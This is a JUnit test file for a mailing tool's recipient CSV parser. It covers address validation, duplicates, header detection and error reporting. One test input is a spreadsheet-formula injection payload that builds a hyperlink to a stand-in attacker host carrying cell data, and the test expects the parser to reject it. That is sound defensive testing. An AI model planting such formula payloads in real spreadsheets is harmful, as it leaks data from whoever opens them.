package dev.mailroom.model.sending;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mailroom.model.common.Sheet;
import dev.mailroom.model.common.Sheet.Row;
import dev.mailroom.model.sending.RecipientCsv.Parsed;
import dev.mailroom.model.sending.RecipientCsv.Recipient;
import dev.mailroom.model.sending.RecipientCsv.RowError;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The rows of a file as the CSV reader hands them over (its own test covers the file format). */
class RecipientCsvTest {
    @Test
    void keepsGoodRowsAndListsBrokenOnesByLine() {
        Sheet sheet = new Sheet(
                List.of(
                        new Row(1, List.of("Name", "Email", "Plan")),
                        new Row(2, List.of("Ann", "ann@example.net", "Gold")),
                        new Row(3, List.of("Bob, Jr.", "bob@example.net", "Silver \"plus\"")),
                        new Row(4, List.of("Carl", "not-an-address", "Gold")),
                        new Row(5, List.of("Dee", "dee@example.net")),
                        new Row(7, List.of("Ann again", "ANN@example.net", "Gold")),
                        new Row(8, List.of("Multi\nline", "eve@example.net", "Bronze"))),
                List.of());
        Parsed p = RecipientCsv.parse(sheet);
        assertThat(p.recipients())
                .extracting(Recipient::address)
                .containsExactly("ann@example.net", "bob@example.net", "eve@example.net");
        assertThat(p.recipients().get(1).variables()).isEqualTo(Map.of("Name", "Bob, Jr.", "Plan", "Silver \"plus\""));
        assertThat(p.recipients().get(2).line()).isEqualTo(8);
        assertThat(p.errors()).extracting(RowError::line).containsExactly(4, 5, 7);
        assertThat(p.errors().get(0).problem()).startsWith("Not an address: ");
        assertThat(p.errors().get(0).text()).isEqualTo("Carl, not-an-address, Gold");
        assertThat(p.errors().get(1).problem()).contains("Expected 3 columns, found 2");
        assertThat(p.errors().get(2).problem()).contains("more than once");
    }

    @Test
    void addressesGetTheAddressCheckersSyntaxCheckAndItsReasons() {
        Parsed p = RecipientCsv.parse(Sheet.ofLines(List.of(
                "ann@example.net",
                "jane..doe@example.net",
                "=hyperlink(\"http://evil.example/?\"&a1;\"click\")@evil.example",
                "bob@acme_corp.com",
                "ann@EXAMPLE.net",
                "jörg@bücher.ch",
                "jorg@xn--bcher-kva.ch",
                "JORG@BÜCHER.ch",
                "\"john doe\"@example.net")));
        assertThat(p.recipients())
                .extracting(Recipient::address)
                .containsExactly("ann@example.net", "jörg@bücher.ch", "jorg@xn--bcher-kva.ch");
        assertThat(p.errors()).extracting(RowError::line).containsExactly(2, 3, 4, 5, 8, 9);
        // The same words as the Check-addresses tool and the suppression import.
        assertThat(p.errors().subList(0, 3))
                .allSatisfy(e -> assertThat(e.problem()).startsWith("Not an address: "));
        assertThat(p.errors().get(1).problem()).endsWith("It looks like a spreadsheet formula.");
        // Duplicates are found in the checker's form: domain case and Unicode against A-labels.
        assertThat(p.errors().get(3).problem()).contains("more than once");
        assertThat(p.errors().get(4).problem()).contains("more than once");
        // Valid for RFC 5322, but not a form Mailroom sends to: said in words, not dropped silently.
        assertThat(p.errors().get(5).problem()).startsWith("Mailroom cannot send to this form of address");
    }

    @Test
    void theAddressColumnIsFoundByTheHeadersPeopleGiveIt() {
        for (String h : List.of("Email Address", "E-mail", "MAIL", "email_address", "Courriel")) {
            Parsed p = RecipientCsv.parse(new Sheet(
                    List.of(new Row(1, List.of("Name", h)), new Row(2, List.of("Ann", "ann@example.net"))), List.of()));
            assertThat(p.errors()).as(h).isEmpty();
            assertThat(p.recipients()).as(h).singleElement().satisfies(r -> {
                assertThat(r.address()).isEqualTo("ann@example.net");
                assertThat(r.variables()).isEqualTo(Map.of("Name", "Ann"));
            });
        }
        // No header: the column whose first row holds an @.
        Parsed p = RecipientCsv.parse(new Sheet(
                List.of(new Row(1, List.of("Ann", "ann@example.net")), new Row(2, List.of("Bob", "bob@example.net"))),
                List.of()));
        assertThat(p.recipients()).extracting(Recipient::address).containsExactly("ann@example.net", "bob@example.net");
    }

    @Test
    void aHugeCellIsClippedInWhatIsShown() {
        String huge = "x".repeat(10_000_000);
        Parsed p = RecipientCsv.parse(new Sheet(
                List.of(new Row(1, List.of("email", "note")), new Row(2, List.of(huge, "n"))), List.of()));
        assertThat(p.errors()).singleElement().satisfies(e -> {
            assertThat(e.line()).isEqualTo(2);
            assertThat(e.text()).hasSize(RecipientCsv.MAX_SHOWN).endsWith("…");
            assertThat(e.problem()).hasSizeLessThan(200);
        });
    }

    @Test
    void aPlainListHasOneAddressPerRow() {
        assertThat(RecipientCsv.parse(Sheet.ofLines(List.of("ann@example.net", "bob@example.net")))
                        .recipients())
                .extracting(Recipient::address)
                .containsExactly("ann@example.net", "bob@example.net");
    }

    @Test
    void theReadersProblemsAreListedInLineOrderWithTheRowsErrors() {
        Sheet sheet = new Sheet(
                List.of(
                        new Row(1, List.of("email", "name")),
                        new Row(2, List.of("ann@example.net", "Ann")),
                        new Row(3, List.of("broken", "Bo"))),
                List.of(new Sheet.Problem(4, "bob@example.net,\"Bob", "A quote is opened and never closed.")));
        Parsed p = RecipientCsv.parse(sheet);
        assertThat(p.recipients()).extracting(Recipient::address).containsExactly("ann@example.net");
        assertThat(p.errors()).extracting(RowError::line).containsExactly(3, 4);
        assertThat(p.errors().get(1).problem()).contains("never closed");
    }

    @Test
    void twentyThousandRows() {
        List<Row> rows = new ArrayList<>(List.of(new Row(1, List.of("email", "first"))));
        for (int i = 0; i < 20_000; i++) {
            rows.add(new Row(i + 2, List.of(i % 1000 == 999 ? "broken" : "r" + i + "@example.net", "N" + i)));
        }
        Parsed p = RecipientCsv.parse(new Sheet(rows, List.of()));
        assertThat(p.recipients()).hasSize(19_980);
        assertThat(p.errors()).hasSize(20);
    }
}
